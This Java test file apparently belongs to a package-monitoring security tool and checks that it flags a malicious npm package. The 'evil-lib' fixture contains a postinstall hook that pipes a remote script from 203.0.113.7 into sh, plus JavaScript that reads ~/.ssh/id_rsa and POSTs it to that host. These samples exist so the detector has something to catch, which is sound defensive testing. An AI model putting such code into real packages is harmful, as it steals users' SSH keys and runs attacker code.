package dev.bulwark.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.bulwark.monitor.OsvExport;
import dev.bulwark.monitor.VersionKey;
import dev.bulwark.model.Ecosystem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * `bulwark monitor` end to end through the CLI against a loopback registry: run until idle,
 * results as JSON, the verdicts equal `bulwark scan`'s, export-osv, db import, and audit sees the
 * new malicious version.
 */
class MonitorCommandTest {
  private static final ObjectMapper M = new ObjectMapper();

  @Test
  void monitorJudgesExportsAndAuditSeesIt(@TempDir Path tmp) throws Exception {
    Map<String, byte[]> tarballs = new LinkedHashMap<>();
    tarballs.put("tiny-lib", tgz("tiny-lib", "",
        "module.exports = function add(a, b) { return a + b; };\n"));
    tarballs.put("evil-lib", tgz("evil-lib",
        "{\"postinstall\":\"curl -s http://203.0.113.7/p.sh | sh\"}",
        "const fs = require('fs'); const os = require('os'); const https = require('https');\n"
            + "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
            + "const req = https.request({host: '203.0.113.7', path: '/k', method: 'POST'});\n"
            + "req.write(key); req.end();\n"));
    HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    String base = "http://127.0.0.1:" + server.getAddress().getPort();
    server.createContext("/", x -> serve(x, base, tarballs));
    server.start();
    try {
      Path state = tmp.resolve("state");
      CliHarness.Run run = CliHarness.run(tmp, "monitor", "--state", state.toString(),
          "--npm-changes", base, "--since", "0", "--until-idle", "--workers", "2");
      assertThat(run.exit()).as(run.err()).isEqualTo(0);
      assertThat(run.err()).contains("judged 2 version(s)").contains("malicious npm:evil-lib@1.0.0");

      CliHarness.Run results = CliHarness.run(tmp, "monitor", "results", "--state",
          state.toString(), "--format", "json");
      assertThat(results.exit()).as(results.err()).isEqualTo(0);
      JsonNode vs = M.readTree(results.out()).path("versions");
      assertThat(vs).hasSize(2);
      for (JsonNode v : vs) {
        for (String f : new String[] {"ecosystem", "name", "version", "published", "judged",
            "verdict", "score", "findings"}) {
          assertThat(v.has(f)).as(f).isTrue();
        }
        // The monitor's verdict is bulwark scan's on the same tarball.
        Path file = tmp.resolve(v.path("name").asText() + ".tgz");
        Files.write(file, tarballs.get(v.path("name").asText()));
        CliHarness.Run scan = CliHarness.run(tmp, "scan", "--format", "json", file.toString());
        String scanVerdict = M.readTree(scan.out()).findValue("verdict").asText();
        assertThat(v.path("verdict").asText()).as(v.path("name").asText()).isEqualTo(scanVerdict);
      }
      assertThat(vs.get(0).path("name").asText()).isEqualTo("evil-lib");
      assertThat(vs.get(0).path("verdict").asText()).isEqualTo("malicious");

      CliHarness.Run onlyMal = CliHarness.run(tmp, "monitor", "results", "--state",
          state.toString(), "--verdict", "malicious");
      assertThat(onlyMal.out()).contains("evil-lib").doesNotContain("tiny-lib");

      Path osv = tmp.resolve("osv");
      CliHarness.Run export = CliHarness.run(tmp, "monitor", "export-osv", "--state",
          state.toString(), "--out", osv.toString());
      assertThat(export.exit()).as(export.err()).isEqualTo(0);
      assertThat(export.out()).contains("wrote 1 OSV record");

      Path db = tmp.resolve("osv.db");
      CliHarness.Run imp = CliHarness.run(tmp, "db", "import", "--db", db.toString(), osv.toString());
      assertThat(imp.exit()).as(imp.err()).isEqualTo(0);
      assertThat(imp.out()).contains("1 malicious");

      Path project = tmp.resolve("project");
      Files.createDirectories(project);
      Files.writeString(project.resolve("package-lock.json"), "{\"name\":\"app\",\"version\":\"1.0.0\","
          + "\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\",\"dependencies\":"
          + "{\"evil-lib\":\"1.0.0\"}},\"node_modules/evil-lib\":{\"version\":\"1.0.0\"}}}");
      CliHarness.Run audit = CliHarness.run(tmp, "audit", "--db", db.toString(), "--format", "json",
          project.resolve("package-lock.json").toString());
      assertThat(audit.exit()).as(audit.err()).isEqualTo(1);
      assertThat(audit.out()).contains(OsvExport.id(new VersionKey(Ecosystem.NPM, "evil-lib", "1.0.0")));
    } finally {
      server.stop(0);
    }
  }

  /** The feed, state and workers from --config; a flag wins over the file. */
  @Test
  void configFileDrivesTheRunAndFlagsOverrideIt(@TempDir Path tmp) throws Exception {
    Map<String, byte[]> tarballs = new LinkedHashMap<>();
    tarballs.put("tiny-lib", tgz("tiny-lib", "", "module.exports = 1;\n"));
    HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    String base = "http://127.0.0.1:" + server.getAddress().getPort();
    server.createContext("/", x -> serve(x, base, tarballs));
    server.start();
    try {
      Path file = tmp.resolve("monitor.yml");
      Files.writeString(file, "# feeds and caps\nstate: " + tmp.resolve("from-file") + "\n"
          + "npm-changes: " + base + "\nsince: \"0\"\nworkers: 2\nmax-attempts: 2\n"
          + "max-artifact-mb: 16\n");
      Path state = tmp.resolve("from-flag");
      CliHarness.Run run = CliHarness.run(tmp, "monitor", "--config", file.toString(),
          "--state", state.toString(), "--until-idle");
      assertThat(run.exit()).as(run.err()).isEqualTo(0);
      assertThat(run.err()).contains("judged 1 version(s)");
      assertThat(state.resolve("monitor.db")).exists();
      assertThat(tmp.resolve("from-file")).doesNotExist();

      Files.writeString(file, "npm-changes: " + base + "\nworkers: 99\n");
      CliHarness.Run bad = CliHarness.run(tmp, "monitor", "--config", file.toString(),
          "--state", state.toString());
      assertThat(bad.exit()).isEqualTo(2);
      assertThat(bad.err()).contains("monitor.yml:2").contains("workers must be");
    } finally {
      server.stop(0);
    }
  }

  @Test
  void usageErrors(@TempDir Path tmp) {
    assertThat(CliHarness.run(tmp, "monitor", "--state", tmp.toString()).exit()).isEqualTo(2);
    assertThat(CliHarness.run(tmp, "monitor", "--state", tmp.toString(), "--npm-changes",
        "http://127.0.0.1:9", "--since", "yesterday").exit()).isEqualTo(2);
    CliHarness.Run none = CliHarness.run(tmp, "monitor", "results", "--state",
        tmp.resolve("none").toString());
    assertThat(none.exit()).isEqualTo(3);
    assertThat(none.err()).contains("no monitor state");
  }

  private static void serve(HttpExchange x, String base, Map<String, byte[]> tarballs)
      throws IOException {
    try (x) {
      String path = x.getRequestURI().getPath();
      byte[] body;
      if (path.equals("/_changes")) {
        String q = x.getRequestURI().getQuery();
        boolean first = q != null && q.contains("since=0");
        StringBuilder b = new StringBuilder("{\"results\":[");
        if (first) {
          int seq = 0;
          for (String name : tarballs.keySet()) {
            b.append(seq > 0 ? "," : "").append("{\"seq\":").append(++seq)
                .append(",\"id\":\"").append(name).append("\"}");
          }
        }
        b.append("],\"last_seq\":").append(tarballs.size()).append("}");
        body = b.toString().getBytes(StandardCharsets.UTF_8);
      } else if (path.startsWith("/t/")) {
        body = tarballs.get(path.substring(3).replace(".tgz", ""));
      } else {
        String name = path.substring(1);
        byte[] t = tarballs.get(name);
        body = t == null ? null : ("{\"name\":\"" + name + "\",\"versions\":{\"1.0.0\":{\"dist\":"
            + "{\"tarball\":\"" + base + "/t/" + name + ".tgz\",\"integrity\":\"" + sri(t)
            + "\"}}},\"time\":{\"1.0.0\":\"2026-12-01T00:00:00.000Z\"}}")
            .getBytes(StandardCharsets.UTF_8);
      }
      if (body == null) {
        x.sendResponseHeaders(404, -1);
        return;
      }
      x.sendResponseHeaders(200, body.length);
      try (OutputStream out = x.getResponseBody()) {
        out.write(body);
      }
    }
  }

  private static String sri(byte[] b) {
    try {
      return "sha512-" + Base64.getEncoder().encodeToString(
          MessageDigest.getInstance("SHA-512").digest(b));
    } catch (java.security.NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] tgz(String name, String scripts, String index) throws IOException {
    ByteArrayOutputStream bo = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GZIPOutputStream(bo))) {
      put(tar, "package/package.json", "{\"name\":\"" + name + "\",\"version\":\"1.0.0\""
          + (scripts.isEmpty() ? "" : ",\"scripts\":" + scripts) + "}");
      put(tar, "package/index.js", index);
    }
    return bo.toByteArray();
  }

  private static void put(TarArchiveOutputStream tar, String path, String text) throws IOException {
    byte[] b = text.getBytes(StandardCharsets.UTF_8);
    TarArchiveEntry e = new TarArchiveEntry(path);
    e.setSize(b.length);
    tar.putArchiveEntry(e);
    tar.write(b);
    tar.closeArchiveEntry();
  }
}
